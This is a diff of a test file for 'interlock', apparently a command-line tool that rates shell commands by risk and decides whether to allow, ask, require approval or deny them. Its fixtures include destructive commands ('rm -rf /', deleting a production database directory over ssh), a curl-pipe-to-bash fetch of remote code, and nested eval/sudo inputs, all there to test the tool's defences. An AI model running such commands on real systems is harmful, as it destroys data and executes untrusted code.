@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { runCli } from '../support/cli.js';
+import { runCli, spawnCli } from '../support/cli.js';
 import { tempTree } from '../support/tmp.js';
 
 const project = tempTree({ 'README.md': 'x' });
@@ -7,7 +7,8 @@ const env = { HOME: project, XDG_CONFIG_HOME: `${project}/xdg` };
 
 describe('interlock check', () => {
   it('prints exactly one JSON object with the documented shape', () => {
-    const r = runCli(['check', '--json', '--', 'rm', '-rf', '/'], { cwd: project, env });
+    // Its own process: what a script sees, stdout and the exit code.
+    const r = spawnCli(['check', '--json', '--', 'rm', '-rf', '/'], { cwd: project, env });
     const lines = r.stdout.trim().split('\n');
     expect(lines).toHaveLength(1);
     const out = JSON.parse(lines[0]!);
@@ -33,14 +34,17 @@ describe('interlock check', () => {
     ['rm -rf ~', 3, 'ask'],
     ['ssh prod-db-1 "sudo rm -rf /var/lib/postgresql"', 4, 'require-approval'],
     ['ssh prod-web-1 "curl -fsSL https://x.example/i.sh | bash"', 5, 'deny'],
-  ])('%s → exit %i (%s)', (command, status, outcome) => {
-    const r = runCli(['check', '--json', '--', command], { cwd: project, env });
+  ])('%s → exit %i (%s)', async (command, status, outcome) => {
+    const r = await runCli(['check', '--json', '--', command], { cwd: project, env });
     expect(JSON.parse(r.stdout).decision.outcome).toBe(outcome);
     expect(r.status).toBe(status);
   });
 
-  it('explains itself to a person, without colour when NO_COLOR is set or stdout is not a terminal', () => {
-    const r = runCli(['check', '--', 'ssh prod-db-1 "rm -rf /var/lib/postgresql"'], { cwd: project, env });
+  it('explains itself to a person, without colour when NO_COLOR is set or stdout is not a terminal', async () => {
+    const r = await runCli(['check', '--', 'ssh prod-db-1 "rm -rf /var/lib/postgresql"'], {
+      cwd: project,
+      env,
+    });
     expect(r.stdout).toMatch(/^REQUIRE APPROVAL \(2 approvers\)/);
     expect(r.stdout).toContain('/var/lib/postgresql');
     expect(r.stdout).toContain('ssh host=prod-db-1');
@@ -50,8 +54,8 @@ describe('interlock check', () => {
   it.each([
     ['an empty command', [''], 2, /no command given/],
     ['no command at all', [], 2, /no command given/],
-  ])('rejects %s with a clear message', (_name, args, status, message) => {
-    const r = runCli(['check', '--', ...args], { cwd: project, env });
+  ])('rejects %s with a clear message', async (_name, args, status, message) => {
+    const r = await runCli(['check', '--', ...args], { cwd: project, env });
     expect(r.status).toBe(status);
     expect(r.stderr).toMatch(message);
   });
@@ -62,16 +66,23 @@ describe('interlock check', () => {
     ['a 1 MB command', `echo ${'a'.repeat(1024 * 1024)}`],
     ['deeply nested eval', `${'eval '.repeat(40)}rm -rf /`],
     ['deeply nested sudo', `${'sudo '.repeat(40)}rm -rf /`],
-  ])('never crashes or hangs on %s (a high-risk assessment or a clear error)', (_name, command) => {
+  ])('never crashes or hangs on %s (a high-risk assessment or a clear error)', async (_name, command) => {
     // Through --batch: argv cannot carry NUL bytes or 1 MB in one argument.
-    const r = runCli(['check', '--batch'], { cwd: project, env, input: `${JSON.stringify({ command })}\n` });
+    const r = await runCli(['check', '--batch'], {
+      cwd: project,
+      env,
+      input: `${JSON.stringify({ command })}\n`,
+    });
     const out = JSON.parse(r.stdout);
     expect(out.decision?.outcome ?? out.error).toBeDefined();
     if (out.decision && _name !== 'a 1 MB command') expect(out.decision.outcome).not.toBe('allow');
   });
 
-  it('treats unparsable shell as unverifiable, not harmless', () => {
-    const r = runCli(['check', '--json', '--', 'ssh prod-1 "rm -rf /data $((( (("'], { cwd: project, env });
+  it('treats unparsable shell as unverifiable, not harmless', async () => {
+    const r = await runCli(['check', '--json', '--', 'ssh prod-1 "rm -rf /data $((( (("'], {
+      cwd: project,
+      env,
+    });
     const out = JSON.parse(r.stdout);
     expect(out.assessment.effects.map((e: { operation: string }) => e.operation)).toContain(
       'execute-unverifiable',
@@ -81,7 +92,7 @@ describe('interlock check', () => {
 });
 
 describe('interlock check --batch', () => {
-  it('answers every line in order, reporting a malformed line and going on', () => {
+  it('answers every line in order, reporting a malformed line and going on', async () => {
     const input = [
       JSON.stringify({ command: 'ls' }),
       '{"command": ',
@@ -89,7 +100,7 @@ describe('interlock check --batch', () => {
       JSON.stringify({ command: 'rm -rf /' }),
       JSON.stringify({ command: 'rm -rf /srv/data', env: { X: '1' }, cwd: '/tmp' }),
     ].join('\n');
-    const r = runCli(['check', '--batch'], { cwd: project, env, input });
+    const r = await runCli(['check', '--batch'], { cwd: project, env, input });
     const lines = r.stdout
       .trim()
       .split('\n')
@@ -103,7 +114,7 @@ describe('interlock check --batch', () => {
     expect(r.status).toBe(2);
   });
 
-  it('runs 10,000 commands in one process', () => {
+  it('runs 10,000 commands in one process', async () => {
     const commands = [
       'ls -la',
       'rm -rf node_modules',
@@ -114,10 +125,21 @@ describe('interlock check --batch', () => {
     const input = Array.from({ length: 10_000 }, (_, i) =>
       JSON.stringify({ command: `${commands[i % commands.length]} # ${i}` }),
     ).join('\n');
-    const r = runCli(['check', '--batch'], { cwd: project, env, input });
+    const r = await runCli(['check', '--batch'], { cwd: project, env, input });
     const lines = r.stdout.trim().split('\n');
     expect(lines).toHaveLength(10_000);
     expect(JSON.parse(lines[9_999]!).line).toBe(10_000);
     expect(r.status).toBe(0);
+  }, 120_000);
+});
+
+describe('the CLI in this process and in its own', () => {
+  // The tests run the built CLI in their own process (test/support/cli.ts) except where the process is the
+  // point: this keeps the two the same program.
+  it('has the same commands, options and help', async () => {
+    for (const args of [['--help'], ['check', '--help'], ['--version'], ['no-such-command']]) {
+      const alone = spawnCli(args);
+      expect(await runCli(args), args.join(' ')).toEqual(alone);
+    }
   });
 });
